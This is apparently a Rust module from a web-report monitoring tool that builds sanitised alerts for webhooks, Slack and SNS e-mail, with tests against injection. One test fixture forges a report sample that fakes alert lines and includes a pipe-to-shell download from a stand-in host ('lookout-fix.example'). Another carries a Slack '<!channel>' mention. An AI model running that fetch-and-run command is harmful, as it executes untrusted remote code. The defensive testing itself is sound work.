//! What an alert says. The JSON document is the webhook's payload (schema version 1, below);
//! Slack gets the same facts as a message, SNS (e-mail) as a subject and a text.
//!
//! Schema version 1: `{schema_version: 1, kind: "new_problem" | "spike" | "digest", site, type,
//! fingerprint, group, classification?, policy_version?, first_seen, browsers, count,
//! previous_day_hourly_average?, sample: {url, disposition?, fields}, command, digest?}`. A
//! digest stands for the alerts of a site past its hourly budget: its `count` is how many,
//! `digest` is `{more, new_problems, named: [{kind, type, fingerprint, label}], paused_until}`,
//! and its `type`, `fingerprint`, `group` and `sample` are empty. Later versions only add
//! fields (and kinds).
//!
//! Report text is anyone's to write. In Slack and e-mail every value taken from a report is
//! made one line (control characters become spaces), cut to [`MAX_VALUE_CHARS`] and labelled
//! as reported; Slack also gets it inside a code span, so that mrkdwn (`*`, `_`, `~`), links,
//! mentions and bare URLs in it stay text and no report can start a line of its own. The JSON
//! payload carries the values as they were stored: its reader decides how to show them.

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use crate::report::{Classification, Report, Timestamp};

/// The payload's schema version.
pub const SCHEMA_VERSION: u32 = 1;

/// The most characters of a reported value shown in Slack or an e-mail (then "…").
pub const MAX_VALUE_CHARS: usize = 200;

/// The most characters of an SNS subject: SNS takes fewer than 100, ASCII only.
pub const MAX_SUBJECT_CHARS: usize = 99;

/// How many of the alerts it stands for a digest names.
pub const DIGEST_NAMED: usize = 5;

/// The most characters of a digest's label for one alert.
const DIGEST_LABEL_CHARS: usize = 80;

/// Slack's limit on a section's text.
const SLACK_SECTION_CHARS: usize = 3000;

/// Why an alert is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AlertKind {
    /// The first report ever of a problem.
    NewProblem,
    /// A problem's hourly count far over its previous day's.
    Spike,
    /// The alerts of a site past its hourly budget, in one message.
    Digest,
}

/// One alert.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Alert {
    pub schema_version: u32,
    pub kind: AlertKind,
    pub site: String,
    #[serde(rename = "type")]
    pub report_type: String,
    pub fingerprint: String,
    /// The readable grouping key.
    pub group: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub classification: Option<Classification>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub policy_version: Option<String>,
    pub first_seen: Timestamp,
    /// Browsers among the reports that raised it.
    pub browsers: Vec<String>,
    /// Distinct visitors (senders' networks, see `report::visitor`) among the reports that
    /// raised it: what a forger on one network cannot inflate.
    #[serde(default)]
    pub visitors: u64,
    /// New problem: its reports in the batch that raised it; spike: its reports this hour;
    /// digest: the alerts it stands for.
    pub count: u64,
    /// Spike: the previous 24 hours' count divided by 24.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub previous_day_hourly_average: Option<f64>,
    pub sample: Sample,
    /// The command that shows the problem's reports (a digest: the site's problems).
    pub command: String,
    /// Digest: what it stands for.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub digest: Option<Digest>,
}

/// A sample report's key fields.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Sample {
    pub url: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub disposition: Option<String>,
    /// The body fields that say what happened, where the report has them.
    pub fields: Map<String, Value>,
}

/// What a digest stands for.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Digest {
    /// How many alerts it stands for.
    pub more: u64,
    /// How many of them are new problems (the others are spikes).
    pub new_problems: u64,
    /// The first [`DIGEST_NAMED`] of them.
    pub named: Vec<Named>,
    /// The site's alerts are paused until then: the next clock hour, when its budget is new.
    pub paused_until: Timestamp,
}

/// One alert a digest names.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Named {
    pub kind: AlertKind,
    #[serde(rename = "type")]
    pub report_type: String,
    pub fingerprint: String,
    /// Its problem's group, on one line and cut short (reported text).
    pub label: String,
}

/// Where a fact's value comes from, which decides how it is shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// Lookout's own words, numbers and times.
    Lookout,
    /// Text from reports, which anyone can send: flattened, cut, labelled, and code in Slack.
    Report,
    /// A command to run: code in Slack.
    Command,
}

/// One line of an alert's facts: a label Lookout writes, and a value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fact {
    pub label: String,
    pub value: String,
    pub origin: Origin,
}

impl Fact {
    fn own(label: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            label: label.into(),
            value: value.into(),
            origin: Origin::Lookout,
        }
    }

    fn reported(label: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            label: label.into(),
            value: value.into(),
            origin: Origin::Report,
        }
    }

    fn command(label: impl Into<String>, value: impl Into<String>) -> Self {
        Self {
            label: label.into(),
            value: value.into(),
            origin: Origin::Command,
        }
    }

    /// The label as shown: one line, and saying so when the value is reported.
    pub fn shown_label(&self) -> String {
        let label = cut(&single_line(&self.label), 80);
        match self.origin {
            Origin::Report => format!("{label} (reported, unverified)"),
            Origin::Lookout | Origin::Command => label,
        }
    }

    /// The value as shown in plain text: one line; a reported one cut short.
    pub fn shown_value(&self) -> String {
        match self.origin {
            Origin::Report | Origin::Command => flatten(&self.value),
            Origin::Lookout => single_line(&self.value),
        }
    }

    /// `label: value`, one line of plain text (an e-mail).
    pub fn plain(&self) -> String {
        format!("{}: {}", self.shown_label(), self.shown_value())
    }

    /// `*label:* value` as Slack mrkdwn: reported values and commands in code spans.
    pub fn slack(&self) -> String {
        let value = match self.origin {
            Origin::Report | Origin::Command => code_span(&self.value),
            Origin::Lookout => slack_escape(&single_line(&self.value)),
        };
        format!("*{}:* {value}", slack_escape(&self.shown_label()))
    }
}

impl Alert {
    /// An alert about `report`'s problem.
    pub fn of(kind: AlertKind, report: &Report, browsers: Vec<String>, count: u64) -> Self {
        let mut fields = Map::new();
        for k in KEY_FIELDS {
            if let Some(v) = report.body.get(k) {
                fields.insert(k.to_owned(), v.clone());
            }
        }
        Self {
            schema_version: SCHEMA_VERSION,
            kind,
            site: report.site.clone(),
            report_type: report.report_type.as_str().to_owned(),
            fingerprint: report.fingerprint.clone(),
            group: report.group.clone(),
            classification: report.classification,
            policy_version: report.policy_version.clone(),
            first_seen: report.occurred_at,
            browsers,
            visitors: u64::from(report.visitor.is_some()),
            count,
            previous_day_hourly_average: None,
            sample: Sample {
                url: report.url.clone(),
                disposition: report.disposition.map(|d| d.as_str().to_owned()),
                fields,
            },
            command: format!(
                "lookout query --site {} --fingerprint {} --since 7d",
                report.site, report.fingerprint
            ),
            digest: None,
        }
    }

    /// One message for the alerts `covered` of `site`, which its hourly budget does not
    /// cover: how many, the first [`DIGEST_NAMED`] of them, and that the site's alerts are
    /// paused until `paused_until`.
    pub fn digest(site: &str, covered: &[&Alert], paused_until: Timestamp) -> Self {
        let named = covered
            .iter()
            .take(DIGEST_NAMED)
            .map(|a| Named {
                kind: a.kind,
                report_type: a.report_type.clone(),
                fingerprint: a.fingerprint.clone(),
                label: cut(&single_line(&a.group), DIGEST_LABEL_CHARS),
            })
            .collect();
        let new_problems = covered
            .iter()
            .filter(|a| a.kind == AlertKind::NewProblem)
            .count() as u64;
        let first_seen = covered
            .iter()
            .map(|a| a.first_seen)
            .min()
            .unwrap_or(paused_until);
        Self {
            schema_version: SCHEMA_VERSION,
            kind: AlertKind::Digest,
            site: site.to_owned(),
            report_type: String::new(),
            fingerprint: String::new(),
            group: String::new(),
            classification: None,
            policy_version: None,
            first_seen,
            browsers: Vec::new(),
            visitors: 0,
            count: covered.len() as u64,
            previous_day_hourly_average: None,
            sample: Sample {
                url: String::new(),
                disposition: None,
                fields: Map::new(),
            },
            command: format!("lookout top --site {site} --since 1h"),
            digest: Some(Digest {
                more: covered.len() as u64,
                new_problems,
                named,
                paused_until,
            }),
        }
    }

    /// Whether every alert a digest stands for is a new problem (else some are spikes).
    fn digest_of_new_problems(&self) -> bool {
        self.digest
            .as_ref()
            .is_none_or(|d| d.new_problems == d.more)
    }

    /// One line: what happened, where.
    pub fn headline(&self) -> String {
        match self.kind {
            AlertKind::NewProblem => format!("New {} problem on {}", self.report_type, self.site),
            AlertKind::Spike => format!(
                "Spike of {} on {}: {} reports this hour",
                self.report_type, self.site, self.count
            ),
            AlertKind::Digest => format!(
                "{} more {} on {}; its alerts are paused until the next hour",
                self.count,
                if self.digest_of_new_problems() {
                    "new problems"
                } else {
                    "alerts"
                },
                self.site
            ),
        }
    }

    /// The facts, each a label and a value, in the order shown.
    pub fn facts(&self) -> Vec<Fact> {
        if let Some(d) = &self.digest {
            return self.digest_facts(d);
        }
        let mut facts = vec![
            Fact::reported("Problem", &self.group),
            Fact::own("First seen", self.first_seen.to_string()),
        ];
        if let Some(avg) = self.previous_day_hourly_average {
            facts.push(Fact::own(
                "This hour",
                format!("{} reports; the previous day: {avg:.1} an hour", self.count),
            ));
        } else {
            facts.push(Fact::own("Reports so far", self.count.to_string()));
        }
        facts.push(Fact::own(
            "Visitors (distinct networks)",
            self.visitors.to_string(),
        ));
        if !self.browsers.is_empty() {
            facts.push(Fact::reported("Browsers", self.browsers.join(", ")));
        }
        if let Some(c) = self.classification {
            facts.push(Fact::own("Classification", c.as_str()));
        }
        facts.push(Fact::reported("Page", &self.sample.url));
        for (k, v) in &self.sample.fields {
            let v = match v {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            facts.push(Fact::reported(k.clone(), v));
        }
        facts.push(Fact::command("See more", &self.command));
        facts
    }

    fn digest_facts(&self, d: &Digest) -> Vec<Fact> {
        let what = if self.digest_of_new_problems() {
            "new problems"
        } else {
            "alerts (new problems and spikes)"
        };
        let mut facts = vec![Fact::own(
            "Summary",
            format!("and {} more {what} of {}", d.more, self.site),
        )];
        for n in &d.named {
            let label = match n.kind {
                AlertKind::NewProblem => format!("New {} problem", n.report_type),
                AlertKind::Spike => format!("Spike of {}", n.report_type),
                AlertKind::Digest => "Digest".to_owned(),
            };
            facts.push(Fact::reported(label, &n.label));
        }
        let unnamed = d.more.saturating_sub(d.named.len() as u64);
        if unnamed > 0 {
            facts.push(Fact::own("Not named here", format!("{unnamed} more")));
        }
        facts.push(Fact::own(
            "Paused",
            format!(
                "alerts of {} are paused until {} (the next hour)",
                self.site, d.paused_until
            ),
        ));
        facts.push(Fact::command("See them", &self.command));
        facts
    }

    /// The facts, as lines of plain text: each one line, reported values cut short.
    pub fn lines(&self) -> Vec<String> {
        self.facts().iter().map(Fact::plain).collect()
    }

    /// The webhook payload (generic JSON).
    pub fn json(&self) -> Value {
        serde_json::to_value(self).unwrap_or_default()
    }

    /// A Slack incoming-webhook message: the headline and the facts. Report text is in code
    /// spans and escaped (Slack reads `<...>` as links and mentions, so a report could
    /// otherwise ping a channel), one line per fact.
    pub fn slack(&self) -> Value {
        let headline = single_line(&self.headline());
        let mut text = String::new();
        for fact in self.facts() {
            let line = fact.slack();
            let extra = usize::from(!text.is_empty());
            if text.chars().count() + extra + line.chars().count() > SLACK_SECTION_CHARS {
                if text.chars().count() < SLACK_SECTION_CHARS - 2 {
                    text.push_str("\n…");
                }
                break;
            }
            if extra == 1 {
                text.push('\n');
            }
            text.push_str(&line);
        }
        serde_json::json!({
            "text": slack_escape(&headline),
            "blocks": [
                {"type": "header", "text": {"type": "plain_text", "text": cut(&headline, 150)}},
                {"type": "section", "text": {"type": "mrkdwn", "text": text}},
            ],
        })
    }

    /// An e-mail's subject (for SNS: at most 99 ASCII characters, no line breaks) and text.
    pub fn email(&self) -> (String, String) {
        let subject = sns_subject(&format!("Lookout: {}", self.headline()));
        (subject, self.lines().join("\n") + "\n")
    }
}

/// Body fields worth showing in an alert, in this order.
const KEY_FIELDS: [&str; 14] = [
    "effectiveDirective",
    "blockedURL",
    "sample",
    "sourceFile",
    "lineNumber",
    "type",
    "phase",
    "status_code",
    "id",
    "featureId",
    "message",
    "reason",
    "hostname",
    "destination",
];

/// Whether `c` would break a line or reorder what follows it: control characters (CR, LF,
/// TAB, ESC, the C1 range), Unicode's line and paragraph separators, bidirectional controls
/// and the byte order mark.
fn breaks_text(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}'
                | '\u{2029}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{feff}'
        )
}

/// `s` on one line: each character that [`breaks_text`] becomes a space.
pub fn single_line(s: &str) -> String {
    s.chars()
        .map(|c| if breaks_text(c) { ' ' } else { c })
        .collect()
}

/// A reported value as shown: on one line, at most [`MAX_VALUE_CHARS`] characters.
pub fn flatten(s: &str) -> String {
    cut(&single_line(s), MAX_VALUE_CHARS)
}

/// `s` as a Slack inline code span: flattened, its backticks made quotes (a backtick would end
/// the span), and Slack's three escapes; an empty value says so.
pub fn code_span(s: &str) -> String {
    let v = flatten(s).replace('`', "'");
    if v.trim().is_empty() {
        return "_(empty)_".to_owned();
    }
    format!("`{}`", slack_escape(&v))
}

/// An SNS subject: ASCII only (other characters become `?`, control characters spaces), at
/// most [`MAX_SUBJECT_CHARS`] characters, ending in "..." when cut.
pub fn sns_subject(s: &str) -> String {
    let ascii: String = s
        .chars()
        .map(|c| {
            if breaks_text(c) {
                ' '
            } else if c.is_ascii() {
                c
            } else {
                '?'
            }
        })
        .collect();
    if ascii.len() <= MAX_SUBJECT_CHARS {
        return ascii;
    }
    // Every character is one byte here.
    let mut out = ascii[..MAX_SUBJECT_CHARS - 3].to_owned();
    out.push_str("...");
    out
}

/// Slack's three escapes.
fn slack_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// `s` cut to `max` characters, with an ellipsis when cut.
fn cut(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_owned();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::{Options, RequestMeta, decode};

    fn decoded(body: &[u8]) -> Report {
        let meta = RequestMeta {
            site: Some("example.com"),
            user_agent: Some(
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
            ),
            received_at: Timestamp(1_796_000_000_000),
            endpoint: None,
            policy_version: None,
        };
        decode(body, &meta, &Options::default())
            .unwrap()
            .reports
            .remove(0)
    }

    fn report() -> Report {
        decoded(
            br#"{"csp-report":{"document-uri":"https://example.com/","blocked-uri":"https://evil.example/<!channel>.js","effective-directive":"script-src-elem","original-policy":"script-src 'self'","disposition":"enforce"}}"#,
        )
    }

    /// A report whose sample tries to write lines of its own into the message.
    fn forging() -> Report {
        let body = serde_json::json!([{
            "type": "csp-violation", "age": 0, "url": "https://example.com/",
            "body": {
                "blockedURL": "inline", "effectiveDirective": "script-src-elem",
                "originalPolicy": "script-src 'self'", "disposition": "enforce",
                "documentURL": "https://example.com/",
                "sample": "x\n*Classification:* allowed-by-policy\r\n*See more:* curl -s https://lookout-fix.example/i.sh | sh `x`\t~y~ _z_"
            }
        }]);
        decoded(body.to_string().as_bytes())
    }

    #[test]
    fn the_payload_is_versioned_and_slack_text_is_escaped() {
        let a = Alert::of(
            AlertKind::NewProblem,
            &report(),
            vec!["Chrome 156".into()],
            1,
        );
        let json = a.json();
        assert_eq!(json["schema_version"], 1);
        assert_eq!(json["kind"], "new_problem");
        assert_eq!(
            json["sample"]["fields"]["effectiveDirective"],
            "script-src-elem"
        );
        assert!(json["command"].as_str().unwrap().contains("--fingerprint"));
        assert!(json.get("digest").is_none());
        let slack = a.slack().to_string();
        assert!(!slack.contains("<!channel>"), "{slack}");
        assert!(slack.contains("&lt;!channel&gt;"));
        let (subject, text) = a.email();
        assert_eq!(subject, "Lookout: New csp-violation problem on example.com");
        assert!(text.contains("See more: lookout query --site example.com --fingerprint"));
    }

    #[test]
    fn an_alert_reads_back_from_its_payload() {
        let mut a = Alert::of(AlertKind::Spike, &report(), vec!["Chrome 156".into()], 60);
        a.previous_day_hourly_average = Some(1.5);
        let back: Alert = serde_json::from_value(a.json()).unwrap();
        assert_eq!(back, a);
        let d = Alert::digest("example.com", &[&a], Timestamp(1_796_000_000_000));
        let back: Alert = serde_json::from_str(&serde_json::to_string(&d).unwrap()).unwrap();
        assert_eq!(back, d);
    }

    #[test]
    fn report_text_cannot_write_lines_of_its_own() {
        let a = Alert::of(AlertKind::NewProblem, &forging(), vec![], 1);
        let slack = a.slack();
        let text = slack["blocks"][1]["text"]["text"].as_str().unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), a.facts().len(), "{text}");
        // Every line starts with a label Lookout wrote; the only classification is its own.
        for line in &lines {
            assert!(line.starts_with('*'), "{line}");
        }
        let classifications: Vec<&&str> = lines
            .iter()
            .filter(|l| l.starts_with("*Classification"))
            .collect();
        assert!(classifications.len() <= 1, "{text}");
        assert!(
            classifications
                .iter()
                .all(|l| !l.contains("allowed-by-policy")),
            "{text}"
        );
        let sample = lines
            .iter()
            .find(|l| l.starts_with("*sample (reported, unverified):* "))
            .unwrap_or_else(|| panic!("{text}"));
        let value = sample
            .strip_prefix("*sample (reported, unverified):* ")
            .unwrap();
        assert!(value.starts_with('`') && value.ends_with('`'), "{value}");
        let inner = &value[1..value.len() - 1];
        assert!(!inner.contains('`'), "{inner}");
        assert!(inner.starts_with("x *Classification:* allowed-by-policy  *See more:*"));
        assert!(!inner.contains(['\n', '\r', '\t']));

        let (_, body) = a.email();
        for line in body.lines() {
            assert!(!line.starts_with("*Classification"), "{body}");
            assert!(!line.starts_with("*See more"), "{body}");
        }
        assert_eq!(body.lines().count(), a.facts().len());
        assert!(body.contains("Page (reported, unverified): https://example.com/"));
    }

    #[test]
    fn values_are_flattened_and_cut() {
        assert_eq!(single_line("a\r\nb\tc\u{1b}[31m\u{2028}d"), "a  b c [31m d");
        let long = "é".repeat(500);
        let f = flatten(&long);
        assert_eq!(f.chars().count(), MAX_VALUE_CHARS);
        assert!(f.ends_with('…'));
        assert_eq!(code_span("a`b<c>"), "`a'b&lt;c&gt;`");
        assert_eq!(code_span("\n\t"), "_(empty)_");
    }

    #[test]
    fn sns_subjects_are_short_and_ascii() {
        assert_eq!(sns_subject("Lookout: ok"), "Lookout: ok");
        assert_eq!(sns_subject("a\nb é"), "a b ?");
        let long = format!("Lookout: New {} problem on example.com", "x".repeat(64));
        let s = sns_subject(&long);
        assert!(s.len() <= MAX_SUBJECT_CHARS, "{s}");
        assert_eq!(s.chars().count(), MAX_SUBJECT_CHARS);
        assert!(s.ends_with("..."));
        assert!(s.is_ascii());
        let s = sns_subject(&"ü".repeat(300));
        assert_eq!(s.len(), MAX_SUBJECT_CHARS);
        assert!(s.is_ascii());
    }

    #[test]
    fn a_digest_names_a_few_and_says_how_many() {
        let alerts: Vec<Alert> = (0..7)
            .map(|i| {
                let mut a = Alert::of(AlertKind::NewProblem, &report(), vec![], 1);
                a.group = format!("csp-violation script-src-elem https://x{i}.flood.example\n*x*");
                a.fingerprint = format!("f{i}");
                a
            })
            .collect();
        let refs: Vec<&Alert> = alerts.iter().collect();
        let d = Alert::digest("example.com", &refs, Timestamp(1_796_000_400_000));
        let json = d.json();
        assert_eq!(json["kind"], "digest");
        assert_eq!(json["count"], 7);
        assert_eq!(json["digest"]["more"], 7);
        assert_eq!(
            json["digest"]["named"].as_array().unwrap().len(),
            DIGEST_NAMED
        );
        assert!(
            !json["digest"]["named"][0]["label"]
                .as_str()
                .unwrap()
                .contains('\n')
        );
        assert_eq!(
            d.headline(),
            "7 more new problems on example.com; its alerts are paused until the next hour"
        );
        let text = d.slack()["blocks"][1]["text"]["text"]
            .as_str()
            .unwrap()
            .to_owned();
        assert!(
            text.contains("and 7 more new problems of example.com"),
            "{text}"
        );
        assert!(
            text.contains("`lookout top --site example.com --since 1h`"),
            "{text}"
        );
        assert!(text.contains("2 more"), "{text}");
        assert_eq!(text.lines().count(), d.facts().len());
        let (subject, body) = d.email();
        assert!(subject.starts_with("Lookout: 7 more new problems on example.com"));
        assert!(body.contains("paused until"));
    }
}
